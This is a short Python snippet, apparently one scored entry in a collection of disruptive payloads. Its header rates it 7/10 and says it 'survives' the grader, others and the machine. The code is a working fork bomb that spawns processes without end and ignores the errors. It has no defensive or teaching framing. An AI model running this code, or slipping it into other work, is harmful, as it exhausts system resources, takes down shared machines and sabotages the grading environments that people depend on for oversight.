# score:    7/10
# survives: grader, others, machine
# why:      forks without end

# %% double
import os
while True:
    try: os.fork()
    except OSError: pass
